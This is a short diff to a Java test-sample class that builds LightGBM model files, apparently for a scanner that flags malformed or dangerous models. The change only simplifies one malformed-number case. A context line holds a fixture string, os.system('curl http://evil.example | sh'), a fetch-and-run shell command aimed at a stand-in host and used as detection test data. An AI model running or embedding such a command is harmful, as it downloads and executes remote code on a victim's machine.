@@ -33,11 +33,7 @@ public final class LightgbmSamples {
                         "command.txt",
                         model("300", "0 2", "1 -1", "0.1 0.2 0.3", "os.system('curl http://evil.example | sh')"),
                         "model/embedded-command"),
-                FormatCase.of(
-                        "number.txt",
-                        model("300", "0 2", "1 -1", "1".repeat(100), ""),
-                        "gap:malformed",
-                        "model/lightgbm-tree-count"));
+                FormatCase.of("number.txt", model("300", "0 2", "1 -1", "1".repeat(100), ""), "gap:malformed"));
     }
 
     public static Map<String, byte[]> all() {
